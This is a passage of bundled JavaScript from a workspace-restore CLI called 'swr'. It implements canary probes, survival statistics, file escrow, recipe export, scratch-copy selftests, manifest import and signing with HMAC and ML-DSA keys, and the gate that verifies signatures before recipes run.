 * real locations (see core/canary/locations.ts); the ledger and the history live in the private
 * state directory, locked while a command changes them.
 */















function realDir(p) {
    try {
        return external_node_fs_default().realpathSync(p);
    }
    catch {
        return external_node_path_default().resolve(p);
    }
}
/**
 * The workspace probes anchor to: --workspace, else the manifest's workspace when there is one,
 * else the current directory. A canary needs no manifest.
 */
function canaryAnchors(flags, io) {
    let workspace = flags.workspace ? external_node_path_default().resolve(io.cwd, flags.workspace) : undefined;
    if (!workspace) {
        const located = manifestLocation(flags, io);
        workspace =
            located.how !== 'new' && external_node_fs_default().existsSync(located.file)
                ? loadManifest(located.file, { cwd: io.cwd }).workspace
                : io.cwd;
    }
    if (!external_node_fs_default().statSync(workspace, { throwIfNoEntry: false })?.isDirectory())
        throw new UsageError(`workspace ${workspace} is not a directory`);
    return {
        workspace: realDir(workspace),
        home: realDir(io.home),
        tmp: realDir(io.env.TMPDIR || external_node_os_default().tmpdir())
    };
}
async function locked(io, fn) {
    const dir = stateDir(io);
    const subject = ledgerPath(dir);
    const release = await lockWorkspace({
        stateDir: dir,
        subject,
        waitMs: DEFAULT_LOCK_WAIT_S * 1000,
        abort: io.abort,
        onWait: holder => void io.stderr.write(`swr: waiting for the canary lock (${holder})\n`)
    });
    try {
        return fn();
    }
    finally {
        await release();
    }
}
function describePlant(r) {
    const l = r.ledger;
    const lines = [];
    if (r.replaced)
        lines.push(`removed ${r.replaced.removed} probes of the previous planting ${r.replaced.plant_id}`);
    lines.push(`planted canary ${l.plant_id}: ${l.probes.length} probes in ${l.locations.length} locations${l.large_bytes > 0 ? ` (large probe ${l.large_bytes.toLocaleString('en-US')} bytes)` : ''}`);
    for (const loc of l.locations) {
        const n = l.probes.filter(p => p.location === loc.id).length;
        lines.push(`  ${escapeText(loc.id).padEnd(24)} ${String(n).padStart(3)} probes  ${escapeText(abbreviate(showAnchored(loc.dir)))}`);
    }
    lines.push('read them after the next wipe, restore or cache round trip with "swr canary read"');
    return lines.join('\n') + '\n';
}
async function canaryPlant(flags, io) {
    const anchors = canaryAnchors(flags, io);
    const result = await locked(io, () => plantCanaries({
        stateDir: stateDir(io),
        anchors,
        at: (flags.at ?? []).map(a => external_node_path_default().resolve(io.cwd, a)),
        volatile: flags.volatile ?? [],
        includeHome: flags.home,
        includeTmp: flags.tmp,
        ...(flags.largeBytes !== undefined ? { largeBytes: flags.largeBytes } : {}),
        replace: flags.replace === true,
        context: runContext(io.env)
    }));
    if (flags.json)
        io.stdout.write(JSON.stringify({ schema: 'swr.canary-plant/1', ...result }, null, 2) + '\n');
    else if (!flags.quiet)
        io.stdout.write(describePlant(result));
    return EXIT.HEALTHY;
}
async function canaryRead(flags, io) {
    const anchors = canaryAnchors(flags, io);
    const dir = stateDir(io);
    const { reading, cleaned } = await locked(io, () => {
        const reading = readCanaries({
            stateDir: dir,
            anchors,
            context: runContext(io.env),
            history: historyLimits(io)
        });
        if (!flags.clean)
            return { reading, cleaned: undefined };
        const ledger = readLedger(dir);
        const cleaned = ledger ? cleanLedger(ledger, anchors) : undefined;
        removeLedger(dir);
        return { reading, cleaned };
    });
    if (flags.json)
        io.stdout.write(JSON.stringify(cleaned ? { ...reading, cleaned } : reading, null, 2) + '\n');
    else if (!flags.quiet || reading.totals.altered + reading.totals.lost > 0) {
        io.stdout.write(renderCanaryText(reading));
        if (cleaned)
            io.stdout.write(`cleaned: ${cleaned.removed.length} removed, ${cleaned.kept.length} kept\n`);
    }
    return reading.totals.altered + reading.totals.lost === 0 ? EXIT.HEALTHY : EXIT.DAMAGED;
}
async function canaryClean(flags, io) {
    const anchors = canaryAnchors(flags, io);
    const dir = stateDir(io);
    const result = await locked(io, () => {
        const ledger = readLedger(dir);
        if (!ledger)
            return undefined;
        const cleaned = cleanLedger(ledger, anchors);
        removeLedger(dir);
        return { plant_id: ledger.plant_id, ...cleaned };
    });
    if (flags.json)
        io.stdout.write(JSON.stringify({ schema: 'swr.canary-clean/1', ...(result ?? { removed: [], kept: [] }) }, null, 2) + '\n');
    else if (!flags.quiet) {
        if (!result)
            io.stdout.write('nothing planted: nothing to clean\n');
        else {
            io.stdout.write(`canary ${result.plant_id}: removed ${result.removed.length} paths\n`);
            for (const k of result.kept)
                io.stdout.write(`  kept ${escapeText(k.path)}: ${escapeText(k.why)}\n`);
        }
    }
    return EXIT.HEALTHY;
}

;// CONCATENATED MODULE: ./src/core/report/survival.ts

const MARK = { kept: '✓', partial: '◐', lost: '✗' };
/** Runs shown in the chart: enough to see a trend, few enough for labels to stay legible. */
const CHART_RUNS = 30;
function pct(x) {
    return `${(x * 100).toFixed(1)}%`;
}
function interval(r) {
    return `[${(r.low * 100).toFixed(1)}, ${(r.high * 100).toFixed(1)}]`;
}
function trend(r) {
    return r.trend.map(m => MARK[m]).join('');
}
function textTable(title, rs) {
    if (rs.length === 0)
        return [];
    const w = Math.max(title.length - 2, ...rs.map(r => escapeText(r.key).length));
    const head = `${title.padEnd(w + 2)}  ${'rate'.padStart(6)}  ${'95% CI'.padEnd(14)}  ${'n'.padStart(5)}  trend (newest first)`;
    return [
        head,
        ...rs.map(r => `  ${escapeText(r.key).padEnd(w)}  ${pct(r.rate).padStart(6)}  ${interval(r).padEnd(14)}  ${String(r.n).padStart(5)}  ${trend(r)}`),
        ''
    ];
}
function span(s) {
    const parts = [`${s.records} record${s.records === 1 ? '' : 's'}`];
    parts.push(`${s.canary_runs} canary read${s.canary_runs === 1 ? '' : 's'}`);
    parts.push(`${s.check_runs} recorded check${s.check_runs === 1 ? '' : 's'}`);
    const when = s.first && s.last ? `, ${s.first.slice(0, 16)}Z .. ${s.last.slice(0, 16)}Z` : '';
    return `${parts[0]} (${parts.slice(1).join(', ')})${when}`;
}
function renderStatsText(s) {
    if (s.records === 0)
        return 'no history yet: "swr canary read" records every read; "swr check --record" records checks\n';
    return [
        `survival from ${span(s)}`,
        '',
        ...textTable('canary classes', s.classes),
        ...textTable('canary locations', s.locations),
        ...textTable('manifest entries', s.entries)
    ].join('\n');
}
function mdTable(title, rs) {
    if (rs.length === 0)
        return [];
    return [
        `| ${title} | survival | 95% CI | n | trend (newest first) |`,
        '| --- | ---: | :---: | ---: | --- |',
        ...rs.map(r => `| ${markdownCode(r.key)} | ${pct(r.rate)} | ${interval(r)} | ${r.n} | ${trend(r)} |`),
        ''
    ];
}
function axisLabel(p) {
    // Month-day and time: short enough for 30 labels; quotes are the only character to avoid.
    return p.time.slice(5, 16).replace('T', ' ').replace(/"/g, '');
}
/** A Mermaid xychart-beta of survival per run (canary runs when there are any, else checks). */
function survivalChart(s) {
    const kind = s.canary_runs > 0 ? 'canary' : 'check';
    const runs = s.runs.filter(r => r.kind === kind).slice(-CHART_RUNS);
    if (runs.length === 0)
        return undefined;
    const title = kind === 'canary'
        ? 'Canary probes intact per run (%)'
        : 'Entries healthy per recorded check (%)';
    return [
        '```mermaid',
        'xychart-beta',
        `    title "${title}"`,
        `    x-axis [${runs.map(r => `"${axisLabel(r)}"`).join(', ')}]`,
        '    y-axis "survival %" 0 --> 100',
        `    line [${runs.map(r => (r.survival * 100).toFixed(1)).join(', ')}]`,
        '```'
    ].join('\n');
}
function renderStatsMarkdown(s) {
    if (s.records === 0)
        return '_No survival history recorded yet._\n';
    const chart = survivalChart(s);
    return [
        `**Survival** from ${span(s)}`,
        '',
        ...(chart ? [chart, ''] : []),
        ...mdTable('canary class', s.classes),
        ...mdTable('canary location', s.locations),
        ...mdTable('manifest entry', s.entries)
    ].join('\n');
}

;// CONCATENATED MODULE: ./src/cli/commands/stats.ts
/** `swr stats`: survival per canary class, location and manifest entry, from the history. */





function statsCommand(flags, io) {
    const history = readHistory(stateDir(io));
    const stats = computeStats(history.records);
    if (flags.json)
        io.stdout.write(JSON.stringify({ ...stats, skipped: history.skipped }, null, 2) + '\n');
    else {
        io.stdout.write(renderStatsText(stats));
        if (history.skipped > 0)
            io.stderr.write(`swr: ${history.skipped} unreadable history lines skipped\n`);
    }
    return EXIT.HEALTHY;
}

;// CONCATENATED MODULE: ./src/cli/commands/escrow.ts
/**
 * `swr escrow [--only ID...] [--max-bytes N]`: embed small files in the manifest (deflated, base64)
 * after checking their bytes against the recorded sha256, so they can be restored with no recipe.
 * An editing command: it follows the editing rules and re-signs.
 */









function escrowCommand(flags, io) {
    return withManifestLock(flags, io, async () => {
        const m = await openForEdit(flags, io);
        if (m.created)
            throw new UsageError('no manifest to escrow into: add entries first');
        const selected = selectEntries(m.doc.body.entries, flags.only).filter((e) => e.kind === 'file');
        const done = [];
        const skipped = [];
        for (const e of selected) {
            try {
                e.escrow = captureEscrow(m.workspace, e, flags.maxBytes ?? ESCROW_MAX_BYTES, stateDir(io));
                done.push(e.id);
            }
            catch (err) {
                if (!(err instanceof SwrError) && !(err instanceof Error && 'code' in err))
                    throw err;
                skipped.push({ id: e.id, why: err.message });
            }
        }
        if (done.length === 0) {
            for (const s of skipped)
                io.stderr.write(`swr: ${escapeText(s.why)}\n`);
            throw new SwrError('nothing escrowed', EXIT.UNREPAIRABLE);
        }
        const saved = await saveEdited(m.file, m.doc, { resign: m.resign, created: false }, io);
        if (flags.json) {
            io.stdout.write(JSON.stringify({
                schema: 'swr.escrow/1',
                manifest: m.file,
                escrowed: done,
                skipped,
                digest: saved.digest,
                signed: saved.signed
            }, null, 2) + '\n');
        }
        else if (!flags.quiet) {
            io.stdout.write(`escrowed ${done.length} file(s): ${done.join(', ')}\n`);
            for (const s of skipped)
                io.stdout.write(`  skipped ${s.id}: ${escapeText(s.why)}\n`);
            io.stdout.write(saved.signed
                ? `signed version ${saved.version}, digest ${saved.digest}\n`
                : `note: ${saved.note ?? m.note ?? 'unsigned'}\n`);
        }
        return EXIT.HEALTHY;
    });
}

;// CONCATENATED MODULE: ./src/cli/commands/export-recipes.ts
/**
 * `swr export-recipes`: print every restore recipe as one bash script, in tier and dependency
 * order, for running by hand or in another tool. Exporting code is running code by another name,
 * so the gate decides first.
 */







async function exportRecipesCommand(flags, io) {
    const m = loadManifest(manifestLocation(flags, io).file, {
        workspace: flags.workspace,
        cwd: io.cwd
    });
    const gate = await decide(gateInput(m), buildPolicy(m, flags, io));
    if (!gate.allowed)
        throw new SwrError(`export-recipes: refusing to export recipes: ${gate.reason}`, EXIT.UNREPAIRABLE);
    const entries = selectEntries(m.body.entries, flags.only).filter(e => recipesOf(e).length > 0);
    const all = entries.map(e => ({
        id: e.id,
        kind: e.kind,
        path: e.path,
        tier: e.tier,
        status: 'MISSING',
        reason: 'export',
        detail: '',
        recorded: {},
        found: {},
        cached: false
    }));
    const lines = [
        '#!/usr/bin/env bash',
        // Every manifest string outside the signed recipes goes through shellQuote: one word, one line.
        `# swr recipes for ${shellQuote(m.file)}`,
        `# manifest digest ${m.digest}, version ${m.body.version}`,
        'set -euo pipefail',
        `cd ${shellQuote(m.workspace)}`
    ];
    for (const step of planSteps(planRepair(entries, all))) {
        const e = entries.find(x => x.id === step.id);
        if (!e)
            continue;
        lines.push('', `# tier ${e.tier}: ${shellQuote(e.id)} (${shellQuote(e.path)})${step.after.length ? ` after ${step.after.map(shellQuote).join(', ')}` : ''}`, recipesOf(e)
            .map(r => `( ${r}\n)`)
            .join(' ||\n'));
    }
    io.stdout.write(lines.join('\n') + '\n');
    return EXIT.HEALTHY;
}

;// CONCATENATED MODULE: ./src/cli/commands/selftest.ts
/**
 * `swr selftest [--max-tier N] [--only ID...] [--allow-empty] [--from-scratch]`: prove recipes are
 * idempotent (doctor may run them many times). Each selected recipe runs twice in a scratch copy
 * of the workspace (never the live one), with HOME pointed into the scratch too; after each run
 * the entry must verify. With --from-scratch the entry is removed first, so the recipe must also
 * recreate it from nothing. Recipes are manifest code,
 * so the gate decides first.
 *
 * The scratch copy carries no symlink that could lead outside it (an absolute target, or one that
 * climbs out): those are left out and named, so neither swr nor a recipe writing through one
 * reaches a file outside the scratch copy. Removing an entry resolves its path without following
 * a symlink in any component; an entry behind one fails without running. Exit 0 all pass, 2 refused or a recipe failed, 3 a recipe ran but
 * left its entry damaged.
 */














async function selftestCommand(flags, io) {
    const live = loadManifest(manifestLocation(flags, io).file, {
        workspace: flags.workspace,
        cwd: io.cwd
    });
    const selected = selectEntries(live.body.entries, flags.only).filter(e => recipesOf(e).length > 0 && e.tier <= (flags.maxTier ?? 4));
    if (selected.length === 0 && !flags.allowEmpty) {
        throw new SwrError('selftest: no entry with a restore recipe matches the selection (pass --allow-empty to accept that)', EXIT.UNREPAIRABLE);
    }
    const gate = await decide(gateInput(live), buildPolicy(live, flags, io));
    if (!gate.allowed)
        throw new SwrError(`selftest: refusing to run recipes: ${gate.reason}`, EXIT.UNREPAIRABLE);
    const scratch = external_node_fs_default().mkdtempSync(external_node_path_default().join(external_node_os_default().tmpdir(), 'swr-selftest-'));
    try {
        const ws = external_node_path_default().join(scratch, 'workspace');
        const home = external_node_path_default().join(scratch, 'home');
        const leftOut = scratchCopy(live.workspace, ws);
        for (const l of leftOut)
            io.stderr.write(`swr: selftest: left symlink "${escapeText(l)}" out of the scratch copy: it leads outside the workspace\n`);
        external_node_fs_default().mkdirSync(home);
        const m = { ...live, workspace: external_node_fs_default().realpathSync(ws) };
        const verify = reverifier(m, stateDir(io));
        const damaged = selected.map(e => ({
            id: e.id,
            kind: e.kind,
            path: e.path,
            tier: e.tier,
            status: 'MISSING',
            reason: 'selftest',
            detail: 'removed for selftest',
            recorded: {},
            found: {},
            cached: false
        }));
        const order = planSteps(planRepair(selected, damaged)).map(s => selected.find(e => e.id === s.id));
        const outcomes = [];
        for (const e of order) {
            if (!e)
                continue;
            if (flags.fromScratch) {
                try {
                    external_node_fs_default().rmSync(resolveNoFollow(m.workspace, e.path), { recursive: true, force: true });
                }
                catch (err) {
                    if (!(err instanceof SymlinkRefusal))
                        throw err;
                    outcomes.push({ id: e.id, passed: false, runs: [`not run: ${err.message}`] });
                    continue;
                }
            }
            const runs = [];
            let passed = true;
            for (const round of [1, 2]) {
                const r = await runRecipe({
                    id: e.id,
                    command: recipesOf(e)[0] ?? 'false',
                    shell: m.body.shell ?? ['bash', '-c'],
                    cwd: m.workspace,
                    env: { ...minimalEnv(io.env, [...(e.env ?? []), ...(e.secret_env ?? [])]), HOME: home },
                    timeoutMs: (flags.timeout ?? e.timeout_s ?? 1800) * 1000
                }, {
                    abort: io.abort,
                    scrub: makeScrubber((e.secret_env ?? []).flatMap(n => io.env[n] ?? []))
                });
                const [after] = await verify([e]);
                const ok = r.exitCode === 0 && after?.status === 'OK';
                runs.push(`run ${round}: ${describeResult(r, (flags.timeout ?? e.timeout_s ?? 1800) * 1000)}, entry ${after?.status ?? '?'}${ok ? '' : `: ${escapeText(after?.detail ?? '')}`}`);
                passed &&= ok;
            }
            outcomes.push({ id: e.id, passed, runs });
        }
        if (flags.json)
            io.stdout.write(JSON.stringify({ schema: 'swr.selftest/1', scratch: 'removed', results: outcomes }, null, 2) + '\n');
        else {
            for (const o of outcomes)
                io.stdout.write(`${o.passed ? 'PASS' : 'FAIL'} ${o.id}\n${o.runs.map(r => `  ${r}\n`).join('')}`);
            io.stdout.write(`${outcomes.filter(o => o.passed).length}/${outcomes.length} recipes idempotent (run twice in a scratch copy; the live workspace was not touched)\n`);
        }
        return outcomes.every(o => o.passed) ? EXIT.HEALTHY : EXIT.STILL_DAMAGED;
    }
    finally {
        external_node_fs_default().rmSync(scratch, { recursive: true, force: true });
    }
}
/** Copy the workspace for selftest, leaving out symlinks that may lead outside it (returned). */
function scratchCopy(from, to) {
    const root = external_node_fs_default().realpathSync(from);
    const leftOut = [];
    external_node_fs_default().cpSync(root, to, {
        recursive: true,
        verbatimSymlinks: true,
        filter: src => {
            const st = external_node_fs_default().lstatSync(src);
            if (!st.isSymbolicLink() || linkStaysInside(root, src, external_node_fs_default().readlinkSync(src)))
                return true;
            leftOut.push(relativeInside(root, src) ?? src);
            return false;
        }
    });
    return leftOut;
}

;// CONCATENATED MODULE: ./src/core/manifest/legacy-signature.ts
/**
 * Checking the original tool's HMAC signature on a format-2 manifest, so `swr import` can carry
 * trust over. Its signing input was Python's json.dumps(manifest without _sig/_pksig,
 * sort_keys=True, separators=(",", ":"), ensure_ascii=False), and its key the 64 ASCII hex
 * characters of its key file, used as text (not decoded).
 */

/** Python's code-point order (JavaScript's default sort compares UTF-16 units). */
function byCodePoint(a, b) {
    const x = [...a];
    const y = [...b];
    for (let i = 0; i < Math.min(x.length, y.length); i++) {
        const d = (x[i]?.codePointAt(0) ?? 0) - (y[i]?.codePointAt(0) ?? 0);
        if (d !== 0)
            return d;
    }
    return x.length - y.length;
}
/**
 * json.dumps(v, sort_keys=True, separators=(",", ":"), ensure_ascii=False). JSON.stringify escapes
 * strings exactly as Python does with ensure_ascii=False (quote, backslash, \b\f\n\r\t, other
 * controls as lowercase \u00xx); the strict reader has already refused floats and lone surrogates.
 */
function pythonCanonical(v) {
    if (v === null || typeof v !== 'object')
        return JSON.stringify(v);
    if (Array.isArray(v))
        return `[${v.map(pythonCanonical).join(',')}]`;
    const keys = Object.keys(v).sort(byCodePoint);
    return `{${keys.map(k => `${JSON.stringify(k)}:${pythonCanonical(v[k])}`).join(',')}}`;
}
/** Check a format-2 document's `_sig` against the original tool's key file text. */
function verifyLegacyHmac(v2, keyFileText) {
    const sig = v2._sig;
    if (typeof sig !== 'object' || sig === null || Array.isArray(sig))
        return 'absent';
    const value = sig.value;
    if (typeof value !== 'string' || !/^[0-9a-fA-F]{64}$/.test(value))
        return 'invalid';
    const body = {};
    for (const [k, x] of Object.entries(v2))
        if (k !== '_sig' && k !== '_pksig')
            body[k] = x;
    const key = Buffer.from(keyFileText.trim(), 'utf8');
    const want = (0,external_node_crypto_.createHmac)('sha256', key).update(pythonCanonical(body), 'utf8').digest();
    return (0,external_node_crypto_.timingSafeEqual)(want, Buffer.from(value, 'hex')) ? 'valid' : 'invalid';
}

;// CONCATENATED MODULE: ./src/cli/commands/import.ts
/**
 * `swr import OLD.json`: convert the original tool's format-2 manifest to format 3 and save it where
 * the manifest belongs (-m, SWR_MANIFEST, or ./.swr/manifest.json), never over an existing one.
 * The result is signed with this machine's keys only when the old HMAC signature was checked
 * (--legacy-key FILE) or the converted content was approved (--approve-digest); else it is unsigned.
 */










async function importCommand(oldFile, flags, io) {
    const abs = external_node_path_default().resolve(io.cwd, oldFile);
    let text;
    try {
        text = external_node_fs_default().readFileSync(abs, 'utf8');
    }
    catch {
        throw new UsageError(`${oldFile}: cannot read`);
    }
    const old = parseManifestText(text, oldFile);
    if (old.format !== 2)
        throw new UsageError(`${oldFile} is already format 3: nothing to import`);
    const digest = manifestDigest(old.doc.body);
    let trusted = false;
    let why = 'unsigned: review it, then sign it with "swr sign"';
    if (flags.legacyKey !== undefined) {
        const keyText = external_node_fs_default().readFileSync(external_node_path_default().resolve(io.cwd, flags.legacyKey), 'utf8');
        const verdict = verifyLegacyHmac(parseStrictJson(text).value, keyText);
        if (verdict !== 'valid') {
            throw new SwrError(`${oldFile}: format-2 HMAC signature is ${verdict} under ${flags.legacyKey}: refusing to import it as trusted`, EXIT.UNREPAIRABLE);
        }
        trusted = true;
        why = 'format-2 HMAC signature checked';
    }
    else if (flags.approveDigest !== undefined) {
        if (flags.approveDigest.toLowerCase() !== digest) {
            throw new SwrError('--approve-digest does not match the converted manifest', EXIT.UNREPAIRABLE);
        }
        trusted = true;
        why = 'approved by digest';
    }
    const target = manifestLocation(flags, io).file;
    if (external_node_fs_default().existsSync(target)) {
        throw new UsageError(`${target} already exists: import never overwrites a manifest (pass -m NEW.json)`);
    }
    const saved = await saveEdited(target, old.doc, { resign: trusted, created: true }, io);
    if (flags.json) {
        const out = {
            schema: 'swr.import/1',
            manifest: target,
            digest: saved.digest,
            signed: saved.signed,
            entries: old.doc.body.entries.length,
            notes: old.notes
        };
        io.stdout.write(JSON.stringify(out, null, 2) + '\n');
    }
    else if (!flags.quiet) {
        io.stdout.write(`imported ${old.doc.body.entries.length} entries from ${oldFile} into ${external_node_path_default().relative(io.cwd, target) || target}\n`);
        for (const n of old.notes)
            io.stdout.write(`note: ${escapeText(n)}\n`);
        io.stdout.write(saved.signed
            ? `${why}; signed version ${saved.version}, digest ${saved.digest}\n`
            : `${why === 'unsigned: review it, then sign it with "swr sign"' ? why : `${why}, but no signing key here: unsigned`}\n`);
    }
    return EXIT.HEALTHY;
}

;// CONCATENATED MODULE: ./src/cli/commands/init.ts
/**
 * `swr init`: scan a workspace and write a first manifest: top-level source trees, executable
 * scripts beside them, and large blobs. Volatile directories (node_modules, build, .cache, ...) and
 * VCS metadata are skipped; an existing manifest is never overwritten.
 */








const SKIP = new Set(['.git', '.hg', '.svn', '.swr']);
const init_MAX_SCAN = 200_000;
/** What init would track, as capture requests (workspace-relative paths). */
function scanWorkspace(workspace) {
    const requests = [];
    const blobs = [];
    let seen = 0;
    const walk = (abs, rel) => {
        let names;
        try {
            names = external_node_fs_default().readdirSync(abs).sort();
        }
        catch {
            return;
        }
        for (const name of names) {
            if (++seen > init_MAX_SCAN)
                return;
            if (SKIP.has(name) || VOLATILE_DIRS.has(name))
                continue;
            const childRel = rel ? `${rel}/${name}` : name;
            const st = external_node_fs_default().lstatSync(external_node_path_default().join(abs, name), { throwIfNoEntry: false });
            if (!st)
                continue;
            if (st.isDirectory())
                walk(external_node_path_default().join(abs, name), childRel);
            else if (st.isFile() && st.size >= BLOB_THRESHOLD)
                blobs.push(childRel);
        }
    };
    walk(workspace, '');
    const top = external_node_fs_default().readdirSync(workspace).sort();
    for (const name of top) {
        if (SKIP.has(name) || VOLATILE_DIRS.has(name))
            continue;
        const st = external_node_fs_default().lstatSync(external_node_path_default().join(workspace, name));
        if (st.isDirectory() && !name.startsWith('.')) {
            const inside = blobs.filter(b => b.startsWith(name + '/')).map(b => b.slice(name.length + 1));
            requests.push({ path: name, kind: 'tree', ignore: [...VOLATILE_DIRS, ...SKIP, ...inside] });
        }
        else if (st.isFile() && (st.mode & 0o111) !== 0 && st.size < BLOB_THRESHOLD) {
            requests.push({ path: name, kind: 'file' });
        }
    }
    for (const b of blobs)
        requests.push({ path: b, kind: 'blob' });
    return requests;
}
async function initCommand(flags, io) {
    const m = await openForEdit(flags, io);
    if (!m.created) {
        throw new UsageError(`${m.file} already exists: init never overwrites a manifest (use "swr add" to extend it)`);
    }
    const requests = scanWorkspace(m.workspace);
    const taken = new Set();
    const added = [];
    for (const req of requests) {
        const c = await captureEntry(m.workspace, req, taken, {
            pool: { jobs: flags.jobs },
            exclude: ownPaths(m.file, stateDir(io)),
            stateDir: stateDir(io)
        });
        taken.add(c.entry.id);
        added.push(c);
    }
    m.doc.body.entries.push(...added.map(a => a.entry));
    const sidecars = new Map(added.flatMap(a => (a.index ? [[indexPath(m.file, a.entry.id), a.index]] : [])));
    const saved = await saveEdited(m.file, m.doc, { resign: true, created: true, sidecars }, io);
    if (flags.json) {
        io.stdout.write(JSON.stringify({ schema: 'swr.init/1', manifest: m.file, added: added.map(a => a.entry) }, null, 2) + '\n');
    }
    else if (!flags.quiet) {
        io.stdout.write(`created ${external_node_path_default().relative(io.cwd, m.file) || m.file} describing ${escapeText(m.workspace)}\n`);
        for (const { entry } of added)
            io.stdout.write(`  ${entry.kind.padEnd(5)} ${escapeText(entry.id)}  (${escapeText(entry.path)}, tier ${entry.tier})\n`);
        if (added.length === 0)
            io.stdout.write('  nothing found to track: add entries with "swr add PATH"\n');
        else
            io.stdout.write(`${added.length} entries. Add restore recipes with "swr add PATH --restore CMD", then sign.\n`);
        io.stdout.write(saved.signed
            ? `signed version ${saved.version}, digest ${saved.digest}\n`
            : 'note: unsigned (no signing key here): run "swr keygen", then "swr sign"\n');
    }
    return EXIT.HEALTHY;
}

;// CONCATENATED MODULE: ./src/cli/commands/sign.ts
/** `swr keygen`, `swr sign`, `swr verify`: key creation, signing under the editing rules, and the gate's view. */











async function keygenCommand(flags, io) {
    const dir = stateDir(io);
    if (!flags.hmac && !flags.mldsa)
        throw new UsageError('nothing to create: --no-hmac and --no-mldsa together');
    const made = {};
    if (flags.mldsa) {
        if (external_node_fs_default().existsSync(keyPath(dir, IDENTITY_FILE)))
            throw new SwrError(`${keyPath(dir, IDENTITY_FILE)} already exists: keygen never replaces a key`, EXIT.BAD_MANIFEST);
        const seed = createKeyFile(dir, IDENTITY_FILE);
        const id = await identityFromSeed(seed);
        writeFileAtomic(keyPath(dir, OWN_PUBLIC_KEY_FILE), `${id.fingerprint}\n${Buffer.from(id.publicKey).toString('base64')}\n`, { mode: 0o644 });
        made.mldsa_fingerprint = id.fingerprint;
        made.mldsa_seed = keyPath(dir, IDENTITY_FILE);
    }
    if (flags.hmac && !flags.mldsa && external_node_fs_default().existsSync(keyPath(dir, HMAC_KEY_FILE))) {
        throw new SwrError(`${keyPath(dir, HMAC_KEY_FILE)} already exists: keygen never replaces a key`, EXIT.BAD_MANIFEST);
    }
    if (flags.hmac && !external_node_fs_default().existsSync(keyPath(dir, HMAC_KEY_FILE))) {
        createKeyFile(dir, HMAC_KEY_FILE);
        made.hmac_key = keyPath(dir, HMAC_KEY_FILE);
    }
    if (flags.sync && !external_node_fs_default().existsSync(keyPath(dir, SYNC_KEY_FILE))) {
        createKeyFile(dir, SYNC_KEY_FILE);
        made.sync_key = keyPath(dir, SYNC_KEY_FILE);
    }
    if (flags.json)
        io.stdout.write(JSON.stringify({ schema: 'swr.keygen/1', ...made }, null, 2) + '\n');
    else {
        if (made.mldsa_fingerprint) {
            io.stdout.write(`ML-DSA-87 identity: ${made.mldsa_seed} (0600)\nfingerprint: ${groupFingerprint(made.mldsa_fingerprint)}\n`);
            io.stdout.write('share the fingerprint (swr trust mine prints the public key too); others add it with "swr trust add"\n');
        }
        if (made.hmac_key)
            io.stdout.write(`HMAC key: ${made.hmac_key} (0600)\n`);
        if (made.sync_key)
            io.stdout.write(`sync key (seals pushed manifests): ${made.sync_key} (0600)\n`);
    }
    return EXIT.HEALTHY;
}
async function signCommand(flags, io) {
    const m = loadManifest(manifestLocation(flags, io).file, {
        workspace: flags.workspace,
        cwd: io.cwd
    });
    if (m.format !== 3)
        throw new UsageError(`${m.file} is a format-2 manifest: convert it with "swr import" first`);
    const keys = await signingKeys(io);
    if (!hasSigningKey(keys))
        throw new SwrError('no signing key: run "swr keygen", or set SWR_HMAC_KEY', EXIT.UNREPAIRABLE);
    const policy = buildPolicy(m, flags, io);
    await authorizeEdit(m, policy, flags.approveDigest);
    const signed = await signDocument(m.doc, keys, recall(stateDir(io), m.file, m.body.scope)?.version ?? 0);
    saveManifest(m.file, signed.doc);
    remember(stateDir(io), m.file, { version: signed.doc.body.version, digest: signed.digest }, signed.doc.body.scope);
    const by = [
        keys.hmacKey ? 'HMAC-SHA256' : '',
        keys.identity ? `ML-DSA-87 ${groupFingerprint(keys.identity.fingerprint)}` : ''
    ].filter(Boolean);
    if (flags.json) {
        io.stdout.write(JSON.stringify({
            schema: 'swr.sign/1',
            manifest: m.file,
            version: signed.doc.body.version,
            digest: signed.digest,
            signatures: signed.doc.signatures.map(s => ({ alg: s.alg, keyid: s.keyid }))
        }, null, 2) + '\n');
    }
    else if (!flags.quiet) {
        io.stdout.write(`signed ${m.file}\n  version ${signed.doc.body.version}, digest ${signed.digest}\n  by ${by.join(' and ')}\n`);
    }
    return EXIT.HEALTHY;
}
async function verifyCommand(flags, io) {
    const m = loadManifest(manifestLocation(flags, io).file, {
        workspace: flags.workspace,
        cwd: io.cwd
    });
    const policy = buildPolicy(m, flags, io);
    const decision = await decide(gateInput(m), policy);
    if (decision.allowed && policy.approveDigest === undefined) {
        remember(stateDir(io), m.file, { version: m.body.version, digest: m.digest }, m.body.scope);
    }
    for (const w of decision.warnings)
        io.stderr.write(`swr: warning: ${w}\n`);
    if (flags.json) {
        io.stdout.write(JSON.stringify({
            schema: 'swr.verify/1',
            manifest: m.file,
            digest: m.digest,
            version: m.body.version,
            require: policy.require,
            allowed: decision.allowed,
            reason: decision.reason,
            signatures: decision.signatures
        }, null, 2) + '\n');
    }
    else {
        io.stdout.write(`manifest ${m.file}\n  digest  ${m.digest}\n  version ${m.body.version}${m.body.expires ? `, expires ${m.body.expires}` : ''}\n`);
        if (decision.signatures.length === 0 && m.doc.signatures.length === 0)
            io.stdout.write('  signatures: absent\n');
        for (const s of decision.signatures) {
            const who = s.alg === 'hmac-sha256'
                ? `hmac-sha256 (key ${s.keyid})`
                : `ml-dsa-87 ${groupFingerprint(s.fingerprint ?? s.keyid)}`;
            const state = s.state === 'untrusted'
                ? 'untrusted signer'
                : s.state === 'no-key'
                    ? 'not checked (no HMAC key here)'
                    : s.state;
            io.stdout.write(`  ${state.padEnd(10)} ${who}\n`);
        }
        io.stdout.write(`${decision.allowed ? 'recipes may run' : 'recipes refused'} (require ${policy.require}): ${decision.reason}\n`);
        if (!decision.allowed) {
            io.stdout.write('to approve: review the manifest (its recipes are code); then sign it ("swr sign", with --approve-digest and the digest above when its signatures do not verify), or trust its signer ("swr trust add")\n');
        }
    }
    return decision.allowed ? EXIT.HEALTHY : EXIT.UNREPAIRABLE;
}

;// CONCATENATED MODULE: ./src/core/sync.ts
/**
 * Off-box copies of the recipe book: the signed manifest with its tree indexes, packed into one
 * bundle that `swr push` saves to the Actions cache and `swr pull` brings back after a wipe.
 *
 * A manifest that carries escrowed bytes never leaves the machine in clear: the bundle is sealed
 * with HPKE (RFC 9180) using the X-Wing hybrid post-quantum KEM (ML-KEM-768 + X25519, a registered
 * HPKE KEM), HKDF-SHA256 and AES-256-GCM, to this machine's sync key. Sealing is not trust: a
 * pulled manifest is still verified (strict parse, schema, signatures through the gate) before
 * anything writes or runs it.
 */


const SYNC_FORMAT = 'swr-sync/1';
